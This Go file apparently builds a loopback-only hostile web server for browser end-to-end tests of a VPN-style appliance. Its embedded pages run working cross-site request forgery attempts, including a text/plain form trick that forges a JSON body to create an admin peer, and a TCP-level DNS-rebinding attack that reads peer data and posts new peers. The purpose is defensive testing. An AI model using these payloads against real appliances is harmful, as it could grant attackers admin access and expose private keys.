// Command attackpage is a test-only hostile web site for scripts/e2e-browser:
// the pages a peer's browser might show while the peer's tunnel is up. It is
// never part of the product, and it listens on loopback only.
//
// It serves three things:
//   - -page: the cross-site page (http://attacker.test/). Its script tries
//     what issue 8 names against http://10.77.0.1: a no-cors text/plain
//     POST /v1/peers, the same in cors mode, a text/plain form POST into an
//     iframe, a JSON POST (preflighted). /echo answers with the headers a
//     request carried, and lets the page read it.
//   - -rebind: DNS rebinding, done in TCP: the first request of a connection
//     that is "GET / " gets the rebinding page (http://rebind.test/) and
//     the connection is closed; every other connection is relayed to the
//     appliance, as if the name now resolved to the tunnel address. The
//     page's same-origin reads and writes then reach the appliance with
//     Host: rebind.test and Origin http://rebind.test.
//   - -tap: a relay to the appliance that the browser reaches instead of
//     10.77.0.1 itself (scripts/e2e-browser maps the address here with
//     --host-resolver-rules), so every request the browser really sent and
//     the appliance's answer are logged, even those the page cannot read.
//
// The relays copy bytes unchanged in both directions and log one line per
// request ("tap> ...") and per response ("tap< ...") on stdout; each page
// labels its requests with ?attempt=NAME, which the appliance ignores. Each
// page writes one line per attempt into <pre id=result> and ends with
// "done"; the script reads it with chromium --dump-dom.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"html/template"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

func main() {
	pageAddr := flag.String("page", "127.0.0.1:8080", "loopback address of the cross-site page")
	rebindAddr := flag.String("rebind", "127.0.0.1:8081", "loopback address of the rebinding name")
	tapAddr := flag.String("tap", "127.0.0.1:8082", "loopback address of the relay that stands for the appliance")
	to := flag.String("to", "10.77.0.1:80", "the appliance: where the relays connect")
	flag.Parse()
	log.SetFlags(0)
	log.SetOutput(os.Stdout)
	for _, a := range []string{*pageAddr, *rebindAddr, *tapAddr} {
		host, _, err := net.SplitHostPort(a)
		if ip := net.ParseIP(host); err != nil || ip == nil || !ip.IsLoopback() {
			fmt.Fprintf(os.Stderr, "attackpage: %q: want a loopback address:port\n", a)
			os.Exit(2)
		}
	}
	t := newTap(*to)
	rebindLn, err := net.Listen("tcp", *rebindAddr)
	if err != nil {
		log.Fatal(err)
	}
	tapLn, err := net.Listen("tcp", *tapAddr)
	if err != nil {
		log.Fatal(err)
	}
	go t.serveRebind(rebindLn)
	go t.serveTap(tapLn)

	mux := http.NewServeMux()
	mux.HandleFunc("GET /{$}", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if err := crossSitePage.Execute(w, nil); err != nil {
			log.Printf("page: %v", err)
		}
	})
	// /seen lets the page learn what the appliance answered to a request
	// it cannot read itself; being a pending fetch, it also holds
	// Chromium's virtual time until the answer is there.
	mux.HandleFunc("GET /seen", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		fmt.Fprint(w, t.answer(r.URL.Query().Get("attempt"), 5*time.Second))
	})
	mux.HandleFunc("/echo", func(w http.ResponseWriter, r *http.Request) {
		seen := map[string]string{"method": r.Method, "host": r.Host}
		for _, h := range []string{"Origin", "Sec-Fetch-Site", "Content-Type"} {
			seen[h] = r.Header.Get(h)
		}
		// The attacker's own server lets the page read it (a preflight
		// included); the appliance is the one that must not.
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "Content-Type")
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(seen)
	})
	srv := &http.Server{
		Addr: *pageAddr,
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			log.Printf("page %s %s host=%s origin=%s", r.Method, r.URL.Path, r.Host, dash(r.Header.Get("Origin")))
			mux.ServeHTTP(w, r)
		}),
		ReadHeaderTimeout: 5 * time.Second,
	}
	log.Printf("attackpage: page %s, rebind %s, tap %s, relays to %s", *pageAddr, *rebindAddr, *tapAddr, *to)
	log.Fatal(srv.ListenAndServe())
}

// tap relays connections to the appliance and logs what passes.
type tap struct {
	to string
	n  atomic.Int64

	mu      sync.Mutex
	answers map[string]string // attempt → the appliance's last answer, "STATUS CODE"
	changed chan struct{}     // closed and replaced when answers changes
}

func newTap(to string) *tap {
	return &tap{to: to, answers: map[string]string{}, changed: make(chan struct{})}
}

func (t *tap) record(attempt, answer string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.answers[attempt] = answer
	close(t.changed)
	t.changed = make(chan struct{})
}

// answer waits up to d for the appliance's answer to attempt; "none" if
// none came.
func (t *tap) answer(attempt string, d time.Duration) string {
	deadline := time.After(d)
	for {
		t.mu.Lock()
		a, ok := t.answers[attempt]
		ch := t.changed
		t.mu.Unlock()
		if ok {
			return a
		}
		select {
		case <-ch:
		case <-deadline:
			return "none"
		}
	}
}

func (t *tap) serveTap(ln net.Listener) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		go t.relay(c, bufio.NewReader(c))
	}
}

func (t *tap) serveRebind(ln net.Listener) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		go func() {
			c.SetReadDeadline(time.Now().Add(30 * time.Second))
			br := bufio.NewReader(c)
			head, err := br.Peek(len("GET / "))
			if err != nil {
				c.Close()
				return
			}
			c.SetReadDeadline(time.Time{})
			if string(head) != "GET / " {
				t.relay(c, br)
				return
			}
			defer c.Close()
			req, err := http.ReadRequest(br)
			if err != nil {
				return
			}
			log.Printf("rebind page served (host=%s); the name now points at %s", req.Host, t.to)
			var b strings.Builder
			rebindPage.Execute(&b, nil)
			fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", b.Len(), b.String())
		}()
	}
}

// relay copies c to the appliance and back, byte for byte, and logs each
// request and response it sees on the way.
func (t *tap) relay(c net.Conn, br *bufio.Reader) {
	defer c.Close()
	id := t.n.Add(1)
	up, err := net.DialTimeout("tcp", t.to, 5*time.Second)
	if err != nil {
		log.Printf("tap! %d dial %s: %v", id, t.to, err)
		return
	}
	defer up.Close()
	attempts := make(chan string, 64)
	done := make(chan struct{}, 2)
	pipe := func(dst net.Conn, src io.Reader, watch func(io.Reader)) {
		pr, pw := io.Pipe()
		go func() {
			watch(pr)
			io.Copy(io.Discard, pr)
		}()
		io.Copy(dst, io.TeeReader(src, pw))
		pw.Close()
		if tc, ok := dst.(*net.TCPConn); ok {
			tc.CloseWrite()
		}
		done <- struct{}{}
	}
	go pipe(up, br, func(r io.Reader) { watchRequests(id, r, attempts) })
	go pipe(c, up, func(r io.Reader) { t.watchResponses(id, r, attempts) })
	<-done
	// One side is finished: give the other a moment, then end both.
	c.SetDeadline(time.Now().Add(2 * time.Second))
	up.SetDeadline(time.Now().Add(2 * time.Second))
	<-done
}

func watchRequests(id int64, r io.Reader, attempts chan<- string) {
	defer close(attempts)
	br := bufio.NewReader(r)
	for {
		req, err := http.ReadRequest(br)
		if err != nil {
			return
		}
		a := dash(req.URL.Query().Get("attempt"))
		log.Printf("tap> %d attempt=%s %s %s host=%s origin=%s content-type=%s", id, a, req.Method, req.URL.Path,
			req.Host, dash(req.Header.Get("Origin")), dash(strings.ReplaceAll(req.Header.Get("Content-Type"), " ", "")))
		io.Copy(io.Discard, req.Body)
		attempts <- a
	}
}

var privateKey = regexp.MustCompile(`"private_key"|PrivateKey\s*=`)

func (t *tap) watchResponses(id int64, r io.Reader, attempts <-chan string) {
	br := bufio.NewReader(r)
	for a := range attempts {
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			return
		}
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		var e struct {
			Error struct{ Code string } `json:"error"`
		}
		json.Unmarshal(body, &e)
		var acao []string
		for k := range resp.Header {
			if strings.HasPrefix(strings.ToLower(k), "access-control-") {
				acao = append(acao, k)
			}
		}
		log.Printf("tap< %d attempt=%s status=%d code=%s access-control=%s privkey=%s peerdata=%s", id, a, resp.StatusCode, dash(e.Error.Code),
			dash(strings.Join(acao, ",")), yesNo(privateKey.Match(body)), yesNo(strings.Contains(string(body), `"public_key"`)))
		t.record(a, fmt.Sprintf("%d %s", resp.StatusCode, dash(e.Error.Code)))
	}
}

func dash(s string) string {
	if s == "" {
		return "-"
	}
	return s
}

func yesNo(b bool) string {
	if b {
		return "yes"
	}
	return "no"
}

// common is the script both pages share: line() writes one outcome, judge()
// says what an answer the page could read gave away, attempt() runs one
// fetch bounded by a 5 s abort. A line is "NAME STATUS key=value ...":
// STATUS is the status the page could read, "opaque" when the browser
// hides it (no-cors), or "error" when the page got nothing.
const common = `
const out = document.getElementById("result");
function clean(s) { return String(s).replace(/[^\x20-\x7e]/g, "?").replace(/[<>&\s]/g, "_"); }
function line(name, status, fields) {
  let l = name + " " + status;
  for (const [k, v] of Object.entries(fields)) l += " " + k + "=" + clean(v);
  out.textContent += l + "\n";
}
function judge(body) {
  let code = "-";
  try { const j = JSON.parse(body); if (j && j.error && j.error.code) code = j.error.code; } catch (e) {}
  return {
    code: code,
    peerdata: /"public_key"/.test(body) ? "yes" : "no",
    privkey: /"private_key"|PrivateKey\s*=/.test(body) ? "yes" : "no",
    body: body.replace(/"(private_key|public_key)":"[^"]*"/g, '"$1":"(hidden)"').replace(/PrivateKey\s*=\s*\S+/g, "PrivateKey=(hidden)").slice(0, 90) || "-",
  };
}
async function attempt(name, url, init) {
  const ctl = new AbortController();
  const timer = setTimeout(() => ctl.abort(), 5000);
  try {
    const r = await fetch(url, Object.assign({signal: ctl.signal, cache: "no-store"}, init));
    if (r.type === "opaque") { line(name, "opaque", {}); return; }
    line(name, r.status, judge(await r.text()));
  } catch (e) {
    line(name, "error", {err: e.name + ":" + e.message});
  } finally {
    clearTimeout(timer);
  }
}
const make = peer => JSON.stringify({name: peer, scopes: ["admin"]});
`

var crossSitePage = template.Must(template.New("page").Parse(`<!doctype html>
<html><head><meta charset="utf-8"><title>attacker</title><link rel="icon" href="data:,"></head>
<body>
<pre id="result"></pre>
<iframe name="sink" id="sink"></iframe>
<script>` + common + `
const target = "http://10.77.0.1";
// seen asks the attacker's own server (the relay) what the appliance
// answered to attempt NAME, for the lines of answers the page cannot read.
async function seen(name) {
  try { return (await fetch("/seen?attempt=" + name, {cache: "no-store"})).text(); } catch (e) { return "unknown"; }
}
async function crossSite(name, init) {
  await attempt(name, target + "/v1/peers?attempt=" + name, init);
  out.textContent = out.textContent.replace(/\n$/, " appliance=" + clean(await seen(name)) + "\n");
}
// formPost submits a text/plain form into the (cross-origin, unreadable)
// iframe. The encoding is NAME=VALUE, so the JSON is split around the "=":
// the first "name" key takes it and the second (a duplicate key) names the
// peer.
async function formPost(name, peer) {
  const f = document.createElement("form");
  f.method = "POST"; f.action = target + "/v1/peers?attempt=" + name; f.enctype = "text/plain"; f.target = "sink";
  const i = document.createElement("input");
  i.type = "hidden"; i.name = '{"name":"'; i.value = '","name":"' + peer + '","scopes":["admin"]}';
  f.appendChild(i); document.body.appendChild(f); f.submit();
  line(name, "submitted", {appliance: await seen(name)});
}
(async () => {
  await attempt("echo", "http://echo.test/echo", {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"});
  await crossSite("nocors-textplain", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: make("evil1")});
  await crossSite("cors-textplain", {method: "POST", headers: {"Content-Type": "text/plain"}, body: make("evil2")});
  await formPost("form-textplain", "evil3");
  await crossSite("json", {method: "POST", headers: {"Content-Type": "application/json"}, body: make("evil4")});
  out.textContent += "done\n";
})();
</script>
</body></html>
`))

var rebindPage = template.Must(template.New("rebind").Parse(`<!doctype html>
<html><head><meta charset="utf-8"><title>rebound</title><link rel="icon" href="data:,"></head>
<body>
<pre id="result"></pre>
<script>` + common + `
(async () => {
  await attempt("rebind-peers", "/v1/peers?attempt=rebind-peers", {});
  await attempt("rebind-events", "/v1/events?attempt=rebind-events", {});
  await attempt("rebind-post", "/v1/peers?attempt=rebind-post", {method: "POST", headers: {"Content-Type": "application/json"}, body: make("evil5")});
  out.textContent += "done\n";
})();
</script>
</body></html>
`))
